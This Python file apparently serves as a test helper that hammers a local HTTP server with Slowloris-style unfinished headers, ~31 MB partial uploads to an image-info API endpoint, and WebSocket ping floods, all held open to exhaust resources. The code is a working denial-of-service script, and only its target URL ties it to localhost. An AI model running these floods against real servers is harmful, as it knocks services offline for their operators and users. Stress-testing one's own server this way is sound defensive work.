"""Strangers who hold back and make noise: heads and bodies that never end, and pings."""

from __future__ import annotations

import socket
import struct
import threading
import time
from contextlib import ExitStack, suppress

HALF_A_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-a: "
BODY_BYTES = 31_000_000
HALF_A_BODY = (
    b"POST /sdapi/v1/png-info HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 33000000\r\n\r\n"
)
UPGRADE = (
    b"GET /live HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
PING = struct.pack("!BB4s125s", 0x89, 0xFD, b"mask", b"x" * 125)
_HOLD_S = 2.0


class Attack:
    """All of it at once, for a with-block; `is_done` once everything was sent and held for a while."""

    def __init__(self, url: str, *, heads: int, uploads: int, pings: int) -> None:
        host, _, port = url.removeprefix("http://").rpartition(":")
        self._address = (host, int(port))
        self._amounts = (heads, uploads, pings)
        self._thread = threading.Thread(target=self._run)
        self._held = ExitStack()
        self.is_done = False

    def __enter__(self) -> Attack:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._thread.join()
        self._held.close()

    def _run(self) -> None:
        heads, uploads, pings = self._amounts
        for _ in range(heads):
            self._send(HALF_A_HEAD)
        body = b'{"image":"' + b"A" * BODY_BYTES
        for _ in range(uploads):
            self._send(HALF_A_BODY + body)
        for _ in range(10):
            self._send(UPGRADE, PING * (pings // 10))
        time.sleep(_HOLD_S)
        self.is_done = True

    def _send(self, *parts: bytes) -> None:
        """Send what the server takes; it may close at any time."""
        with suppress(OSError):
            raw = self._held.enter_context(socket.create_connection(self._address, 10))
            for part in parts:
                raw.sendall(part)
                if part is UPGRADE:
                    raw.recv(4096)
